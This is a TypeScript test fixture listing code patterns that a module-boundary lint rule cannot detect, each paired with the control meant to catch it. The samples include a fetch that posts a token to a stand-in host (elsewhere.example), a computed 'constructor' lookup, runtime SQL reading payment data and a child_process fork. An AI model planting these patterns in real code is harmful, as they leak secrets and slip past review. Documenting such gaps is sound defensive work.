import type { Gap } from './case.js';

/** Ways that lint does not see. They are planted too, so that the page stays exact: lint must be silent about them. */
export const gaps: Gap[] = [
  {
    way: 'a member whose name is put together at run time',
    file: 'src/billing/gap-computed.ts',
    code: `const name = 'const' + 'ructor';\nexport const inside = (facade: Record<string, unknown>) => facade[name];`,
    leftTo: 'review, and a facade that holds nothing in reach; a process of its own',
  },
  {
    way: 'a path as plain text, which says where a file is but cannot load it',
    file: 'src/billing/gap-path.ts',
    code: `const here = import.meta.url;\nexport const path = new URL('../payments/payment/payment.entity.js', here);`,
    leftTo:
      'the rules above: import() and require() take only what lint can read, and neighbours have no builtin that reads files',
  },
  {
    way: 'SQL whose parts meet at run time',
    file: 'src/billing/gap-sql.ts',
    code: `const owner = 'payments';\nexport const statement = \`SELECT last_four FROM \${owner}.payment_method\`;`,
    leftTo: "the database: privileges of the application's role",
  },
  {
    way: "an address of the gateway's API, called by hand",
    file: 'src/billing/gap-api.ts',
    code: `export const charge = (key: string) => fetch('https://api.stripe.com/v1/payment_intents', { method: 'POST', headers: { authorization: key } });`,
    leftTo: 'secrets that leave the environment at the start; egress rules of a process of its own',
  },
  {
    way: "the facade's own properties, listed",
    file: 'src/billing/gap-facade.ts',
    code: `import { Injectable } from '@nestjs/common';
import { Payments } from '../payments/payments.contract.js';
@Injectable()
export class Curious {
  constructor(private readonly payments: Payments) {}
  look(): unknown[] {
    return Object.values(this.payments);
  }
}`,
    leftTo: 'the running process: a frozen facade with `#private` members',
  },
  {
    way: 'the platform hands a power of its own to a neighbour',
    file: 'src/platform/gap-power.ts',
    code: `export { fork } from 'node:child_process';`,
    leftTo: 'code owners of src/platform',
  },
  {
    way: 'a file of payments started as a program by its path in a string',
    file: 'src/platform/gap-started.ts',
    code: `import { fork } from 'node:child_process';\nexport const start = () => fork('dist/payments/payment/payments.service.js');`,
    leftTo: 'code owners of src/platform; neighbours have no builtin that starts a program',
  },
  {
    way: 'a leak written inside payments',
    file: 'src/payments/payment/gap-leak.ts',
    code: `export const say = (token: string) => fetch('https://elsewhere.example', { method: 'POST', body: token });`,
    leftTo: 'code owners of src/payments; egress rules of a process of its own',
  },
];
